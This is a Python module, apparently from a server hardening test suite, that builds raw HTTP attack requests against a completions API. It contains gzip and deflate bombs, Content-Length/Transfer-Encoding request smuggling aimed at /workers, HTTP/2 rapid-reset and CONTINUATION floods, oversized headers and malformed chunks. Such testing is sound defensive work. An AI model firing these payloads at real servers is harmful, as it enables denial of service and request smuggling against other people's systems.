"""Requests whose form is the attack: lengths, codings, heads, protocols. Each is one connection's bytes."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Iterable, Iterator

from attacks.wire import chunks, head, post, small

BOMB = small(prompt="a" * (64 << 20))  # 64 MiB of JSON, 64 KB when packed
ENDLESS_BYTES = 32 << 20  # where an endless body stops by itself
SMUGGLED = "GET /workers HTTP/1.1\r\nHost: localhost\r\n\r\n"
JSON = "application/json"
LENGTH = b"Content-Length:"
CHUNKED = head("POST", "/v1/completions", {"Content-Type": JSON, "Transfer-Encoding": "chunked"})
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

Bytes = bytes | Iterable[bytes]


def coded(coding: str, body: bytes) -> bytes:
    return post(body, Content_Encoding=coding)


def raw_deflate(body: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(body) + packer.flush()


def chunked(parts: Iterable[bytes], extension: bytes = b"") -> Iterator[bytes]:
    """A POST in chunked coding, without its last chunk."""
    yield CHUNKED
    yield from chunks(parts, extension)


def of_length(text: str) -> bytes:
    return head("POST", "/v1/completions", {"Content-Type": JSON, "Content-Length": text})


def two_lengths(first: object, second: object) -> bytes:
    body = small()
    pairs = [("Content-Type", JSON), ("Content-Length", str(first)), ("Content-Length", str(second))]
    return head("POST", "/v1/completions", pairs) + body + SMUGGLED.encode()


def both_codings(transfer: str, length: int) -> bytes:
    """A length and a transfer coding; whoever believes the length sees a second request behind it."""
    pairs = [("Content-Type", JSON), ("Content-Length", str(length)), ("Transfer-Encoding", transfer),
             ("Connection", "keep-alive")]  # fmt: skip
    return head("POST", "/v1/completions", pairs) + b"0\r\n\r\n" + SMUGGLED.encode()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def h2_resets(count: int = 20_000) -> Iterator[bytes]:
    """HTTP/2 without being asked: streams that are opened and reset at once."""
    yield H2_PREFACE + frame(4, 0, 0)
    fields = b"\x83\x86\x44\x0f/v1/completions\x41\x09localhost"  # method, scheme, path and authority in HPACK
    for first in range(1, 2 * count, 1000):
        streams = range(first, first + 1000, 2)
        yield b"".join(frame(1, 4, stream, fields) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)


def h2_continuations(count: int = 4000) -> Iterator[bytes]:
    """One head that never ends."""
    yield H2_PREFACE + frame(4, 0, 0) + frame(1, 0, 1, b"\x83\x86")
    name = b"\x40\x04aaaa\x7f\x81\x7f" + b"b" * 255
    for _ in range(count // 50):
        yield frame(9, 0, 1, name * 16) * 50


def upgrade(path: str, protocol: str) -> bytes:
    return head("GET", path, {"Connection": "Upgrade", "Upgrade": protocol, "Sec-WebSocket-Version": "13",
                              "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
                              "HTTP2-Settings": "AAMAAABkAAQCAAAAAAIAAAAA"})  # fmt: skip


def many_headers(count: int, size: int) -> bytes:
    return head("POST", "/v1/completions", [(f"X-{number}", "v" * size) for number in range(count)]) + small()


def lengths() -> dict[str, Bytes]:
    """How long a body is said to be, and how it is coded."""
    body = small()
    return {
        "gzip bomb": coded("gzip", gzip.compress(BOMB)),
        "gzip in gzip": coded("gzip, gzip", gzip.compress(gzip.compress(BOMB))),
        "deflate bomb": coded("deflate", zlib.compress(BOMB, 9)),
        "raw deflate bomb": coded("deflate", raw_deflate(BOMB)),
        "broken gzip": coded("gzip", gzip.compress(body)[:-9]),
        "gzip that is none": coded("gzip", body),
        "small gzip": coded("gzip", gzip.compress(body)),
        **{f"coding {coding!r}": coded(coding, body) for coding in ("br", "zstd", "xyz", "identity", "", "gzip;q=0")},
        "no end of chunks": chunked([b" " * 65536] * (ENDLESS_BYTES // 65536)),
        "an endless chunk": chunked_head(b"fffffffffffffff\r\n", ENDLESS_BYTES),
        "chunk size beyond 64 bits": chunked_head(b"fffffffffffffffff\r\n", 65536),
        "negative chunk": chunked_head(b"-1\r\n", 10),
        "chunk size without an end": chunked_head(b"0" * 200_000, 0),
        "chunks of one byte": [*chunked([bytes([byte]) for byte in body]), b"0\r\n\r\n"],
        "chunk extensions": [*chunked([bytes([byte]) for byte in body], b";x=" + b"y" * 4000), b"0\r\n\r\n"],
        "a chunk extension without an end": chunked_head(b"1;" + b"y" * (1 << 20), 0),
        "trailers without an end": [*chunked([body]), b"0\r\n", *([b"X-Y: " + b"z" * 1000 + b"\r\n"] * 2000)],
        "bare line feeds in chunks": [CHUNKED, b"%x\n%s\n0\n\n" % (len(body), body)],
        "two equal lengths": two_lengths(len(body), len(body)),
        "two lengths": two_lengths(len(body), len(body) + len(SMUGGLED)),
        "two lengths, the short one first": two_lengths(0, len(body)),
        "a list of lengths": two_lengths(f"{len(body)}, {len(body)}", len(body)),
        **{f"length {text!r}": of_length(text) + body for text in
           ("-1", "+5", "0x10", "1e3", "9" * 30, "18446744073709551616", "", " ", "5;5")},
        "length and chunks": both_codings("chunked", 4),
        "length and chunks twice": both_codings("chunked, chunked", 4),
        "length and unknown coding": both_codings("xchunked", 4),
        "length and chunks behind a tab": both_codings("\tchunked", 4),
        "length and chunks, then identity": both_codings("chunked, identity", 4),
        "blank before the colon": post(body).replace(LENGTH, b"Transfer-Encoding : chunked\r\n" + LENGTH),
        "folded header": post(body).replace(LENGTH, b"Transfer-Encoding:\r\n chunked\r\n" + LENGTH),
        "no length": head("POST", "/v1/completions", {"Content-Type": JSON}) + body,
        "a body behind GET": head("GET", "/v1/models", {"Content-Length": str(len(SMUGGLED))}) + SMUGGLED.encode(),
        "100-continue": post(body, Expect="100-continue"),
        "unknown expectation": post(body, Expect="200-ok"),
    }  # fmt: skip


def chunked_head(start: bytes, more: int) -> list[bytes]:
    """A chunk whose size line is the attack, and what follows it."""
    return [CHUNKED, start, *([b" " * min(more, 65536)] * (more // 65536 or 1))]


def heads() -> dict[str, Bytes]:
    """Heads that no client needs, and other protocols."""
    body = small()
    return {
        "a header of 1 MiB": post(body, X_Y="z" * (1 << 20)),
        "a name of 100 kB": head("GET", "/v1/models", {"x" * 100_000: "1"}),
        "10,000 headers": many_headers(10_000, 4),
        "99 headers of 4 kB": many_headers(99, 4000),
        "a target of 1 MiB": head("GET", "/" + "a" * (1 << 20)),
        "a query of 60 kB": head("GET", "/v1/models?" + "a=b&" * 15_000),
        "a line without an end": b"A" * (1 << 20),
        "NUL in a header": post(body, X_Y="a\0b"),
        "no host": b"GET /v1/models HTTP/1.1\r\nConnection: close\r\n\r\n",
        "two hosts": head("GET", "/v1/models", [("Host", "a"), ("Host", "b")]),
        "a host that is none": head("GET", "/v1/models", {"Host": "[::1"}),
        "a key that is no text": head("GET", "/v1/models", {"Authorization": "Bearer \xff\xfe"}),
        "a key of 100 kB": head("GET", "/v1/models", {"Authorization": "Bearer " + "k" * 100_000}),
        "HTTP/0.9": b"GET /v1/models\r\n\r\n",
        "HTTP/1.0": head("GET", "/v1/models", version="HTTP/1.0"),
        "HTTP/9.9": head("GET", "/v1/models", version="HTTP/9.9"),
        "bare line feeds": b"GET /v1/models HTTP/1.1\nHost: x\nConnection: close\n\n",
        "blank lines first": b"\r\n" * 5000 + head("GET", "/v1/models"),
        "TLS": bytes.fromhex("16030100c8010000c40303") + bytes(200),
        "random bytes": bytes((number * 167 + 13) % 256 for number in range(4096)),
        "PROXY protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + head("GET", "/v1/models"),
        "HTTP/2 by itself": H2_PREFACE + frame(4, 0, 0) + frame(8, 0, 0, b"\x7f\xff\xff\xff"),
        "HTTP/2 resets": h2_resets(),
        "HTTP/2 head without an end": h2_continuations(),
        "HTTP/2 settings": [H2_PREFACE, *([frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 100] * 100)],
        "HTTP/2 pings": [H2_PREFACE + frame(4, 0, 0), *([frame(6, 0, 0, bytes(8)) * 100] * 100)],
        **{f"upgrade to {protocol} of {path}": upgrade(path, protocol) for protocol in ("websocket", "h2c") for path in
           ("/v1/chat/completions", "/v1/realtime", "/", "/v1/models")},
        **{f"{method} {path}": head(method, path) for method in
           ("HEAD", "OPTIONS", "TRACE", "PUT", "DELETE", "PATCH", "FOO", "get", "GE\tT", "M" * 10_000) for path in
           ("/v1/chat/completions", "/v1/models", "/x")},
        "CONNECT": head("CONNECT", "127.0.0.1:8998"),
        "OPTIONS *": head("OPTIONS", "*"),
        "preflight": head("OPTIONS", "/v1/chat/completions", {
            "Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}),
        "pipelined": head("GET", "/v1/models", {"Connection": "keep-alive"}) * 200 + head("GET", "/v1/models"),
        "pipelined posts": post(body).replace(b"Connection: close", b"Connection: keep-alive") * 20 + post(body),
    }  # fmt: skip
